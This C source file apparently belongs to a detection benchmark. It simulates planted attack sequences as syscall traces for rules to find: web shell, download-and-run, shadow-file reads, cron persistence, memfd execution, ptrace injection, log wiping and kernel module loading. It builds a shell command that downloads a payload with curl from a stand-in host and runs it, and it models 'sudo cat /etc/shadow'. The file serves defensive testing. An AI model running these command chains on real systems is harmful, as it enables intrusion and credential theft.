/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Sequences that are planted: what a rule should find among all the rest. Everything about one has
 * its number in it, so that a search for it finds nothing else. Steps carry OPF_STEP.
 */
#include <stdio.h>
#include <string.h>

#include "tests/bench/lib_emit.h"
#include "tests/bench/lib_plan.h"

/* clang-format off */
enum attack {
	ATTACK_WEB_SHELL, ATTACK_DOWNLOAD, ATTACK_CREDENTIALS, ATTACK_PERSISTENCE, ATTACK_MEMFD,
	ATTACK_INJECTION, ATTACK_LOGS, ATTACK_MODULE, ATTACK_COUNT,
};
/* clang-format on */

/* Children within a sequence. */
enum stage {
	STAGE_SHELL,
	STAGE_ID,
	STAGE_CURL,
	STAGE_CHMOD,
	STAGE_PAYLOAD,
	STAGE_SUDO,
	STAGE_BODY
};

const char *plan_attack_name(uint32_t i)
{
	static const char *const names[] = {
		"web shell",	  "download and run",  "credential access", "persistence by cron",
		"run from memfd", "process injection", "log cleaning",	    "kernel module",
	};

	return names[(i - 1) % ATTACK_COUNT];
}

static struct op *step(struct machine *m, struct task *t, enum op_code code, uint32_t file)
{
	struct op *op = plan_op(m, t, code, file);

	op->flags = OPF_STEP;
	return op;
}

static void mark(struct task *t)
{
	t->ops[t->n - 1].flags |= OPF_STEP;
}

static void execute(struct machine *m, struct task *t, struct image *i)
{
	uint32_t at = t->n;

	plan_exec(m, t, i, false);
	t->ops[at].flags |= OPF_STEP;
}

static uint32_t tool(struct machine *m, uint32_t number)
{
	return plan_temporary(m, DEV_TMP, "/tmp/.x%u", number);
}

/* Somebody else's server; the number is in the address and in the port it is called from. */
static void call_home(struct machine *m, struct task *t, uint32_t number, uint16_t port)
{
	uint32_t sock = plan_socket(m);
	uint64_t ends = (uint64_t)port << 48 | (uint64_t)(40000 + number % 20000) << 32 |
			(203u << 24 | 113 << 8 | (1 + number % 254));
	static const enum op_code codes[] = { OP_SOCKET, OP_CONNECT, OP_SEND, OP_RECV };

	for (unsigned k = 0; k < 4; k++) {
		struct op *op = plan_op(m, t, codes[k], sock);

		op->fd = 3;
		op->b = ends;
		op->a = k > 1 ? 120 : 0;
		op->ret = k > 1 ? 120 : 0;
		if (k < 2)
			op->flags = OPF_STEP;
	}
	plan_op(m, t, OP_CLOSE, sock)->fd = 3;
}

static void stage(struct machine *m, struct task *t, uint32_t number, enum stage which,
		  uint32_t file)
{
	plan_fork(m, t, PLAN_ATTACK, which, (uint64_t)file << 32 | number);
	plan_wait(m, t, 0);
}

static void shell(struct machine *m, struct task *t, uint32_t number)
{
	struct image *i = plan_image(m, m->bin.dash);
	uint32_t file = tool(m, number);
	char line[128];

	snprintf(line, sizeof(line),
		 "id; curl -so /tmp/.x%u http://203.0.113.%u/x%u; chmod +x /tmp/.x%u; "
		 "/tmp/.x%u",
		 number, 1 + number % 254, number, number, number);
	image_arg(i, "sh");
	image_arg(i, "-c");
	image_arg(i, line);
	execute(m, t, i);
	stage(m, t, number, STAGE_ID, file);
	stage(m, t, number, STAGE_CURL, file);
	stage(m, t, number, STAGE_CHMOD, file);
	stage(m, t, number, STAGE_PAYLOAD, file);
	plan_exit(m, t, 0);
}

static void small_stage(struct machine *m, struct task *t, enum stage which, uint32_t number,
			uint32_t file)
{
	struct image *i = NULL;
	int16_t fd;

	switch (which) {
	case STAGE_ID:
		i = plan_image(m, m->bin.id);
		image_arg(i, "id");
		execute(m, t, i);
		plan_slurp(m, t, F_PASSWD);
		break;
	case STAGE_CURL:
		i = plan_image(m, m->bin.curl);
		image_arg(i, "curl");
		image_arg(i, "-so");
		image_arg(i, tree_path(&m->tree, file));
		execute(m, t, i);
		call_home(m, t, number, 80);
		fd = plan_open(m, t, file, O_WR | O_CREATE | O_CUT);
		mark(t);
		plan_write(m, t, fd, file, 8192, number % 2 ? CONTENT_SCRIPT : CONTENT_ELF);
		mark(t);
		plan_close(m, t, fd, file);
		break;
	case STAGE_CHMOD:
		i = plan_image(m, m->bin.chmod);
		image_arg(i, "chmod");
		image_arg(i, "+x");
		image_arg(i, tree_path(&m->tree, file));
		execute(m, t, i);
		step(m, t, OP_CHMOD, file)->a = 0755;
		break;
	case STAGE_PAYLOAD:
		i = plan_image(m, file);
		image_arg(i, tree_path(&m->tree, file));
		execute(m, t, i);
		call_home(m, t, number, 4444);
		break;
	default:
		i = plan_image(m, m->bin.sudo);
		image_arg(i, "sudo");
		image_arg(i, "cat");
		image_arg(i, "/etc/shadow");
		execute(m, t, i);
		step(m, t, OP_SETUID, 0)->a = 0;
		fd = plan_open(m, t, F_SHADOW, 0);
		mark(t);
		plan_read(m, t, fd, F_SHADOW, 1211);
		plan_close(m, t, fd, F_SHADOW);
	}
	plan_exit(m, t, 0);
}

static void persistence(struct machine *m, struct task *t, uint32_t number)
{
	uint32_t made = plan_temporary(m, DEV_ROOT, "/etc/cron.d/.job%u.tmp", number);
	uint32_t final = plan_temporary(m, DEV_ROOT, "/etc/cron.d/job%u", number);
	int16_t fd = plan_open(m, t, made, O_WR | O_CREATE | O_EXCLUSIVE);

	mark(t);
	plan_write(m, t, fd, made, 60, CONTENT_SCRIPT);
	mark(t);
	plan_close(m, t, fd, made);
	step(m, t, OP_RENAME, final)->a = made;
}

static void memfd(struct machine *m, struct task *t, uint32_t number)
{
	uint32_t file = plan_temporary(m, DEV_ANON, "/memfd:x%u (deleted)", number);

	step(m, t, OP_MEMFD, file)->fd = 5;
	plan_write(m, t, 5, file, 9000, CONTENT_ELF);
	mark(t);
	stage(m, t, number, STAGE_PAYLOAD, file);
}

static void injection(struct machine *m, struct task *t)
{
	uint32_t victim = m->standing[m->n_standing / 2]->proc->pid;
	struct op *op = step(m, t, OP_PTRACE, 0);

	op->a = victim;
	op->b = 16;
	op = step(m, t, OP_VM_WRITEV, 0);
	op->a = victim;
	op->ret = 512;
	op = step(m, t, OP_PTRACE, 0);
	op->a = victim;
	op->b = 17;
}

static void module(struct machine *m, struct task *t, uint32_t number)
{
	uint32_t file = plan_temporary(m, DEV_TMP, "/tmp/mod%u.ko", number);
	int16_t fd = plan_open(m, t, file, O_CLOSE_EXEC);

	mark(t);
	step(m, t, OP_FINIT_MODULE, file)->fd = fd;
	plan_close(m, t, fd, file);
}

/* The sequences that need no shell: a program of its own does it all. */
static void body(struct machine *m, struct task *t, uint32_t number)
{
	enum attack kind = (enum attack)((number - 1) % ATTACK_COUNT);
	uint32_t file = tool(m, number);
	struct image *i = plan_image(m, kind == ATTACK_DOWNLOAD ? m->bin.dash : file);

	image_arg(i, kind == ATTACK_DOWNLOAD ? "/bin/sh" : tree_path(&m->tree, file));
	execute(m, t, i);
	switch (kind) {
	case ATTACK_DOWNLOAD:
		stage(m, t, number, STAGE_CURL, file);
		stage(m, t, number, STAGE_CHMOD, file);
		stage(m, t, number, STAGE_PAYLOAD, file);
		break;
	case ATTACK_CREDENTIALS:
		plan_open_fail(m, t, F_SHADOW, 0, EACCES);
		mark(t);
		stage(m, t, number, STAGE_SUDO, 0);
		break;
	case ATTACK_PERSISTENCE:
		persistence(m, t, number);
		break;
	case ATTACK_MEMFD:
		memfd(m, t, number);
		break;
	case ATTACK_INJECTION:
		injection(m, t);
		break;
	case ATTACK_LOGS:
		step(m, t, OP_TRUNCATE, F_AUTH_LOG);
		step(m, t, OP_UNLINK, F_HISTORY);
		break;
	default:
		module(m, t, number);
	}
	plan_exit(m, t, 0);
}

void plan_attack(struct machine *m, struct task *t, const struct op *fork)
{
	uint32_t number = (uint32_t)fork->b, file = (uint32_t)(fork->b >> 32);

	t->proc->fds = 7;
	t->proc->work = WORK_ATTACK;
	if (fork->a == STAGE_SHELL)
		shell(m, t, number);
	else if (fork->a == STAGE_BODY)
		body(m, t, number);
	else
		small_stage(m, t, (enum stage)fork->a, number, file);
}

/* Each begins in a process of its kind that does nothing else: a PHP worker, somebody's shell. */
bool plan_attack_begin(struct machine *m, uint32_t i)
{
	enum attack kind = (enum attack)((i - 1) % ATTACK_COUNT);
	uint32_t uid = 1000;

	if (kind == ATTACK_WEB_SHELL)
		uid = 33;
	else if (kind == ATTACK_PERSISTENCE || kind >= ATTACK_LOGS)
		uid = 0;
	for (uint32_t k = 0; k < m->n_standing; k++) {
		struct task *t = m->standing[k];

		if (!t->idle || m->standing_work[k] != WORK_ATTACK || t->proc->creds.uid != uid)
			continue;
		t->n = t->at = 0;
		t->proc->plant = (uint16_t)i;
		stage(m, t, i, kind == ATTACK_WEB_SHELL ? STAGE_SHELL : STAGE_BODY, 0);
		task_ready(m, t);
		return true;
	}
	return false;
}
